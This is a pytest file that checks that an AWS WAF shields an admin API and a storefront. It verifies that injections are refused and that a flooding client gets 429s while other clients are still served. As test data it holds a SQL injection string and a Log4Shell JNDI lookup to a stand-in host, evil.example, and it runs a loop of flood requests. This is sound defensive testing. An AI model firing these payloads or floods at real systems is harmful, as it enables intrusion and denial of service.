"""AWS WAF stands before the admin API and the storefront: injections and floods go no further, others are served."""

import random
from typing import Any
from urllib.parse import quote

import pytest

pytestmark = [pytest.mark.part("firewall"), pytest.mark.blackstart_requires("ecs")]

INJECTION = quote("tea' OR '1'='1")
LOG4J = "${jndi:ldap://evil.example/a}"
LIMIT = 100
"""Requests of one client within a minute (pulumi_stack/firewall.py)."""


def new_address() -> str:
    """Of nobody: 198.18.0.0/15 is kept for tests (RFC 2544)."""
    return f"198.{random.choice((18, 19))}.{random.randrange(256)}.{random.randrange(256)}"


@pytest.fixture(params=["admin", "storefront"])
def guarded(request: pytest.FixtureRequest, shop: Any, http: Any) -> Any:
    """Ask what stands behind the firewall: `guarded(query, headers)`; a good request gets `guarded.good`."""
    base = {
        "admin": (f"{shop.outputs['admin_url']}/products/none", 404),
        "storefront": (f"{shop.outputs['storefront_url']}/health", 200),
    }
    url, good = base[request.param]
    keys = shop.outputs.get("admin_keys", {})
    key = shop.aws("apigateway").get_api_key(apiKey=keys["staff"], includeValue=True)["value"]

    def ask(query: str = "", **headers: str) -> int:
        given = {name.replace("_", "-"): value for name, value in headers.items()}
        return int(http("GET", url + query, None, {"x-api-key": key, **given}).status)

    ask.good = good  # type: ignore[attr-defined]
    return ask


@pytest.mark.blackstart_covers("wafv2", "execute-api", "elasticloadbalancing")
def test_an_injection_goes_no_further(guarded: Any) -> None:
    assert guarded("?name=tea") == guarded.good
    assert guarded(f"?name={INJECTION}") == 403
    assert guarded(User_Agent=LOG4J) == 403


@pytest.mark.blackstart_covers("wafv2", "execute-api", "elasticloadbalancing")
def test_a_flood_is_held_off_while_others_are_served(guarded: Any, eventually: Any) -> None:
    flooding, other = new_address(), new_address()
    assert 429 not in [guarded(X_Forwarded_For=flooding) for _ in range(10)]
    # AWS counts with a delay of some seconds, so the flood goes on until it is noticed.
    for _ in range(20 * LIMIT):
        if guarded(X_Forwarded_For=flooding) == 429:
            break
    assert guarded(X_Forwarded_For=flooding) == 429
    eventually(lambda: guarded(X_Forwarded_For=other) == guarded.good, what="another client served")
    eventually(lambda: guarded() == guarded.good, what="who forwards no address served")
    assert guarded(X_Forwarded_For=flooding) == 429
